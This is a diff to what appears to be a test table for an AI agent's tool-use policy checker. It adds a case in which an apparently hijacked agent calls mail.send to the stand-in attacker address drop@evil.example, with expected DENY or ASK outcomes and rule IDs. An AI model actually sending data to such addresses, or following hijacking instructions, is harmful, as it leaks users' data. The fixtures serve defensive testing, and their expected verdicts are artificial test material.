@@ -46,7 +46,14 @@ WORLD: list[tuple[str, str, dict[str, Any], Outcome, set[str]]] = [
         "mail.send",
         ROBBED | INVENTED | {"to": ["drop@evil.example"]},
         DENY,
-        {"FLOW-002", "FLOW-003"},
+        {"FLOW-003"},
+    ),
+    (
+        "write to somebody whom nobody named",
+        "mail.send",
+        HIJACKED | INVENTED | {"to": ["drop@evil.example"]},
+        ASK,
+        {"FLOW-002", "PROV-002", "PROV-014"},
     ),
     (
         "hide it in a web address",
